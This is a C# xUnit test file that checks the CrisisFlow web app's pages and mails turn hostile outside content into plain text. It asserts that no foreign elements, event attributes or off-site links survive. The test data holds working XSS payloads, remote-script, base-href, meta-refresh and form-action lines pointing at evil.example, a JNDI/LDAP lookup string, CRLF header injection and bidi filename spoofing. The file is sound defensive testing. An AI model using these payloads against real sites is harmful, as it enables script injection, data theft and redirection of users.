using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CrisisFlow.Presentation.Mails;
using CrisisFlow.Web.Tests.Desk;

namespace CrisisFlow.Web.Tests;

/// <summary>
/// What outside content may never do, tried at every place of every page and every mail where it is shown.
/// </summary>
public sealed class Hostile_content
{
    private static readonly string[] OwnElements =
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "a",
        "header",
        "nav",
        "main",
        "footer",
        "p",
        "h1",
        "h2",
        "h3",
        "section",
        "article",
        "div",
        "span",
        "strong",
        "br",
        "bdi",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "time",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "details",
        "summary",
        "form",
        "fieldset",
        "legend",
        "label",
        "input",
        "textarea",
        "select",
        "option",
        "button",
        "code",
        "ins",
        "del",
        "figure",
        "figcaption",
        "svg",
        "rect",
        "line",
        "polyline",
        "circle",
        "text",
        "g",
        "title",
        "iframe",
        "blockquote",
    ];

    public static TheoryData<string> Vectors =>
        [
            "<script>alert(1)</script>",
            "\"><script src=//evil.example/x.js></script>",
            "'><img src=x onerror=alert(1)>",
            "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
            "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<style>@import '//evil.example/x.css';</style>",
            "<!--><script>alert(1)</script--><!-- ![CDATA[",
            "</textarea></title></style></script><script>alert(1)</script>",
            "<form action=//evil.example><button>approve</button></form>",
            "javascript:alert(1)",
            "\" onmouseover=alert(1) x=\"",
            "[click](javascript:alert(1)) ![x](https://evil.example/p.png)",
            "${jndi:ldap://evil.example} {0} {99} %n %s",
            "\u202egnp.exe\u202c \u2066x \u200f\u061c",
            "line\r\nX-Injected: 1\r\n\r\n<b>x</b>\u2028second\u2029third\u0000\u001b[31m",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
            "\ud800 lone \udc00 surrogates \uffff",
            "👩‍👩‍👧‍👦 𠮷野家 ﷽ Z̸̨̢͇͓̅̈́̊a̶l̷g̵o̸",
        ];

    [Theory(Timeout = 120_000)]
    [MemberData(nameof(Vectors))]
    public async Task Hostile_content_becomes_no_markup_on_any_page_and_in_any_mail(string hostile)
    {
        var parser = new HtmlParser();
        foreach (var (name, html) in await Tour.PagesAsync(hostile, "en"))
        {
            if (name == "feed")
                continue;
            var page = parser.ParseDocument(html);
            foreach (var element in page.All)
            {
                if (element.LocalName == "style")
                    CheckStyle(name, element);
                else
                    Assert.True(OwnElements.Contains(element.LocalName), $"{name}: element {element.LocalName}");
                foreach (var attribute in element.Attributes)
                    Check(name, element, attribute);
            }

            Assert.DoesNotContain('\u001b', html);
            Assert.DoesNotContain('\0', html);
        }
    }

    /// <summary>A mail's one style sheet is a constant, in its head.</summary>
    private static void CheckStyle(string name, IElement element)
    {
        Assert.StartsWith("mail", name);
        Assert.Equal("head", element.ParentElement!.LocalName);
        Assert.Equal(MailFrame.Sheet.ToString(), element.TextContent);
    }

    private static void Check(string name, IElement element, IAttr attribute)
    {
        Assert.False(
            attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase),
            $"{name}: {element.LocalName} {attribute.Name}"
        );
        Assert.False(
            attribute.Name is "srcset" or "formaction" or "srcdoc" or "http-equiv",
            $"{name}: {element.LocalName} {attribute.Name}"
        );
        if (attribute.Name is "href" or "src" or "action")
            Assert.Matches(@"^(/|#|https://(crisis\.qingtian|news|social|hot)\.example/)", attribute.Value);
        if (attribute.Name == "style")
            Assert.StartsWith("mail", name);
    }
}
